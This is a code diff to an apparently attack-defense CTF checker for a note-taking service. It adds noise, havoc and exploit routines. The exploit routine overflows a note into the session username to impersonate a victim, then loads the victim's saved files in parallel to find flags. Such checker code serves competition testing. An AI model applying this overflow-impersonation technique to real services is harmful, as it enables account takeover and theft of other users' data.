+        random_idx = list(dict.fromkeys(random_idx))
+
+        notes = NOISE.batch(len(random_idx), max_len=0x38)
+        filenames = [gen_random_str() for _ in random_idx]
+        await db.set('noise_info', (username, password, notes, filenames))
+
+    pending = [(idx, note, filename) for idx, note, filename in zip(random_idx, notes, filenames)
+               if not checkpoint.done("saved", filename)]
+    if not pending:
+        return
+
+    async with BambiNoteClient(task, logger) as client, checkpoint.track(client), client.pipeline():
+        await register_once(client, checkpoint, username, password)
+        await checkpoint.find_saved(client, [filename for _, _, filename in pending])
+        pending = [(idx, note, filename) for idx, note, filename in pending if not checkpoint.done("saved", filename)]
+        if not pending:
+            return
         if random.getrandbits(1):
             await client.list_notes()
 
-        for idx, note in zip(random_idx, notes):
+        for idx, note, _ in pending:
             if idx == 0:
                 await client.delete_note(idx)
             await client.create_note(idx, note)
@@ -425,39 +868,37 @@ async def putnoise1(task: PutnoiseCheckerTaskMessage, db: ChainDB, logger: Logge
         if random.getrandbits(1):
             note_list = await client.list_notes()
             try:
-                for idx, note in zip(random_idx, notes):
+                for idx, note, _ in pending:
                     assert note_list[idx] == note
             except:
                 logger.warn(f'{note} ({idx}) not found in note_list {note_list}!')
                 raise MumbleException("Note not in list!")
 
-        for idx, filename in zip(random_idx, filenames):
+        for idx, _, filename in pending:
             await client.save_note(idx, filename)
+            checkpoint.reached(client, "saved", filename)
 
         if random.getrandbits(1):
             note_list = await client.list_notes()
             try:
-                for idx, note in zip(random_idx, notes):
+                for idx, note, _ in pending:
                     assert note_list[idx] == note
                 for filename in filenames:
-                    assert filename.encode() in note_list['saved']
+                    assert filename.encode() in note_list.saved
             except:
-                logger.warn(f'"{filename}" not found in note_list["saved"]: {note_list}!')
+                logger.warn(f'"{filename}" not found in note_list.saved: {note_list}!')
                 raise MumbleException("Note not in list!")
 
 def assert_notelist_matches(subset, actual):
-    try:
-        for idx in range(10):
-            if idx in subset:
-                assert subset[idx] == actual[idx]
-        
-        for elem in subset["saved"]:
-            assert elem in actual["saved"]
-    except:
-        raise MumbleException("Notelist differs!")
+    slots, saved = subset.missing(actual)
+    if slots or saved:
+        raise MumbleException("Notelist differs!", f"Notelist differs in slots {slots}, saved files missing: {saved}")
 
 @checker.getnoise(1)
-async def getnoise1(task: GetnoiseCheckerTaskMessage, db: ChainDB, logger: LoggerAdapter):
+@instrument
+@recorded
+@profiled
+async def getnoise1(task: GetnoiseCheckerTaskMessage, db: CachedChainDB, logger: LoggerAdapter):
     try:
         username, password, notes, filenames = await db.get("noise_info")
     except:
@@ -467,12 +908,10 @@ async def getnoise1(task: GetnoiseCheckerTaskMessage, db: ChainDB, logger: Logge
     note_count_to_check = random.randint(1, len(filenames))
     note_nums = random.choices(list(range(len(filenames))), k=note_count_to_check)
     
-    note_list_expected = {
-        0: DEFAULT_NOTE,
-        'saved': [b".", b"..", *[filename.encode() for filename in filenames]]
-    }
+    note_list_expected = NoteList([b".", b"..", *[filename.encode() for filename in filenames]])
+    note_list_expected[0] = DEFAULT_NOTE
 
-    async with BambiNoteClient(task, logger) as client:
+    async with BambiNoteClient(task, logger) as client, client.pipeline():
         await client.login(username, password)
 
         # Cover as put*
@@ -490,7 +929,7 @@ async def getnoise1(task: GetnoiseCheckerTaskMessage, db: ChainDB, logger: Logge
                 # Doesn't work since there may be additional notes from players!
                 # if note_list_expected != note_list:
                 #     raise MumbleException("Notes differ!")
-                logger.info(f"Notelist match:\nexpected: {note_list_expected}\ngot:{note_list}")
+                logger.debug("Notelist match:\nexpected: %s\ngot: %s", note_list_expected, note_list)
                 assert_notelist_matches(note_list_expected, note_list)
 
             # Rarely load the password as a note to annoy teams
@@ -512,6 +951,9 @@ async def getnoise1(task: GetnoiseCheckerTaskMessage, db: ChainDB, logger: Logge
 
 ## Fail Login repeatedly
 @checker.havoc(0)
+@instrument
+@recorded
+@profiled
 async def havoc0(task: HavocCheckerTaskMessage, logger: LoggerAdapter):
     async with BambiNoteClient(task, logger) as client:
         for i in range(10):
@@ -522,15 +964,63 @@ async def havoc0(task: HavocCheckerTaskMessage, logger: LoggerAdapter):
                 continue
             break
 
-## Delete Note
+async def mixed_session(client, ops: int, mix: dict):
+    """Register and run `ops` commands drawn from `mix`, checking the listing against what was done.
+
+    Commands whose precondition does not hold yet (saving without a note,
+    loading without a saved file) fall back to creating a note.
+    """
+    username, password = generate_creds()
+    await client.register(username, password)
+    notes = {0: DEFAULT_NOTE}
+    saved = {}
+
+    for op in random.choices(list(mix), weights=list(mix.values()), k=ops):
+        if op == "save" and notes:
+            idx = random.choice(list(notes))
+            filename = gen_random_str()
+            await client.save_note(idx, filename)
+            saved[filename] = notes[idx]
+        elif op == "load" and saved:
+            # Slot 0 only fits the default note, loading into it overflows
+            idx = random.randint(1, 9)
+            filename = random.choice(list(saved))
+            await client.load_note(idx, filename)
+            notes[idx] = saved[filename]
+        elif op == "list":
+            expected = NoteList([b".", b"..", *(filename.encode() for filename in saved)])
+            for idx, note in notes.items():
+                expected[idx] = note
+            assert_notelist_matches(expected, await client.list_notes())
+        elif op == "delete" and len(notes) > 1:
+            idx = random.choice([idx for idx in notes if idx != 0])
+            await client.delete_note(idx)
+            del notes[idx]
+        else:
+            free = [idx for idx in range(1, 10) if idx not in notes]
+            if not free:
+                idx = random.randint(1, 9)
+                await client.delete_note(idx)
+                free = [idx]
+            idx = random.choice(free)
+            note = gen_rando_bs(max_len=0x38)
+            await client.create_note(idx, note)
+            notes[idx] = note
+
+## Use the service like a player would
 @checker.havoc(1)
+@instrument
+@recorded
+@profiled
 async def havoc1(task: HavocCheckerTaskMessage, logger: LoggerAdapter):
-    # async with BambiNoteClient(task, logger) as client:
-    #     await client.login()
-    pass
+    async with BambiNoteClient(task, logger) as client:
+        await mixed_session(client, HAVOC_OPS, HAVOC_MIX)
 
 # 1337
 @checker.havoc(2)
+@instrument
+@recorded
+@profiled
 async def havoc2(task: HavocCheckerTaskMessage, logger: LoggerAdapter):
     async with BambiNoteClient(task, logger) as client:
         await client.read_menu()
@@ -540,30 +1030,118 @@ async def havoc2(task: HavocCheckerTaskMessage, logger: LoggerAdapter):
         assert_equals(await client.readline(), b"Nice Try!\n", "L33T text not available!")
         assert_equals(await client.readline(), b"Yeah this isn't going to do anything\n", "L33T text not available!")
 
-@checker.exploit(0)
-async def exploit_test(task: ExploitCheckerTaskMessage, searcher: FlagSearcher, sock: AsyncSocket, logger:LoggerAdapter) -> Optional[str]:
+async def impersonate(client, victim: str):
+    """Overflow the default note into the username so the session reads `victim`'s files."""
     username, password = generate_creds()
-    async with BambiNoteClient(task, logger) as client:
-        await client.register(username, password)
-        await client.create_note(5, b"A" * 0x40 + task.attack_info.encode())
-        await client.save_note(5, "exploit_123")
-        await client.load_note(0, "exploit_123")
+    await client.register(username, password)
+    await client.create_note(5, b"A" * 0x40 + victim.encode())
+    await client.save_note(5, "exploit_123")
+    await client.load_note(0, "exploit_123")
+    client.state = (victim, client.state[1])
 
-        client.state = (task.attack_info, client.state[1])
-        notes = await client.list_notes()
+class ExploitScan():
+    """Load a victim's files nine at a time over several connections until the flag shows up.
 
-        note_ctr = 1
-        for note in notes['saved']:
-            if note == b"." or note == b"..":
-                continue
-            
-            logger.info(f"loading NOTE {note_ctr}, filename: {note}")
-            await client.load_note(note_ctr, note.decode())
-            notes = await client.list_notes()
-            logger.info(f"{notes}")
-            foo = searcher.search_flag(notes[1]) 
-            if foo is not None:
-                return foo
+    Every connection scans what it receives with a FlagStream, so the scan
+    stops as soon as the flag passes by, even in the middle of a listing.
+    A helper connection that fails hands its files back to the others.
+    """
+
+    def __init__(self, task, logger) -> None:
+        self.task = task
+        self.logger = logger
+        self.queue = deque()
+        self.seen = {b".", b".."}
+        self.flag_seen = asyncio.Event()
+        self.streams = []
+        self.busy = 0
+
+    def watch(self, client):
+        client.flags = FlagStream(self.task.flag_regex, self.task.flag_hash, self.flag_seen)
+        self.streams.append(client.flags)
+
+    def add(self, filenames):
+        for filename in filenames:
+            if filename not in self.seen:
+                self.seen.add(filename)
+                self.queue.append(filename)
+
+    def result(self) -> Optional[bytes]:
+        for stream in self.streams:
+            stream.finish()
+        found = [flag for stream in self.streams for flag in stream.found]
+        if not found:
+            return None
+        # Without a hash every candidate is returned, as FlagSearcher does
+        return found[0] if self.task.flag_hash else b"\n".join(found)
+
+    async def scan(self, client):
+        while self.queue and not self.flag_seen.is_set():
+            chunk = [self.queue.popleft() for _ in range(min(len(EXPLOIT_SLOTS), len(self.queue)))]
+            self.busy += 1
+            try:
+                for slot, filename in zip(EXPLOIT_SLOTS, chunk):
+                    await client.load_note(slot, filename.decode())
+
+                notes = await client.list_notes()
+            except Exception:
+                # Another connection lists the files this one did not get through
+                self.queue.extendleft(reversed(chunk))
+                raise
+            finally:
+                self.busy -= 1
+            self.add(notes.saved)
+
+    async def helper(self):
+        async with BambiNoteClient(self.task, self.logger) as client, client.pipeline():
+            self.watch(client)
+            await impersonate(client, self.task.attack_info)
+            await self.scan(client)
+
+    async def run(self, client):
+        chunks = -(-len(self.queue) // len(EXPLOIT_SLOTS))
+        main = asyncio.create_task(self.scan(client))
+        workers = {main}
+        workers.update(asyncio.create_task(self.helper()) for _ in range(min(EXPLOIT_CONNECTIONS, chunks) - 1))
+        flag_seen = asyncio.create_task(self.flag_seen.wait())
+        try:
+            while workers and not self.flag_seen.is_set():
+                done, _ = await asyncio.wait({flag_seen, *workers}, return_when=asyncio.FIRST_COMPLETED)
+                for worker in done - {flag_seen}:
+                    workers.discard(worker)
+                    if worker is main:
+                        worker.result()
+                    elif worker.exception() is not None:
+                        # Only the main connection failing fails the exploit
+                        self.logger.info("Exploit helper failed: %r", worker.exception())
+                # Files a failed helper put back after the main connection ran dry
+                if self.queue and main.done() and not self.flag_seen.is_set():
+                    main = asyncio.create_task(self.scan(client))
+                    workers.add(main)
+                # Helpers still connecting, possibly waiting for admission, have nothing left to do
+                if not self.queue and not self.busy:
+                    break
+        finally:
+            flag_seen.cancel()
+            for worker in workers:
+                worker.cancel()
+            await asyncio.gather(*workers, return_exceptions=True)
+        return self.result()
+
+@checker.exploit(0)
+@instrument
+@recorded
+@profiled
+async def exploit_test(task: ExploitCheckerTaskMessage, logger:LoggerAdapter) -> Optional[bytes]:
+    scan = ExploitScan(task, logger)
+    async with BambiNoteClient(task, logger) as client, client.pipeline():
+        scan.watch(client)
+        await impersonate(client, task.attack_info)
+        notes = await client.list_notes()
+        scan.add(notes.saved)
+        if scan.flag_seen.is_set():
+            return scan.result()
+        return await scan.run(client)
 
 if __name__ == "__main__":
     checker.run()
\ No newline at end of file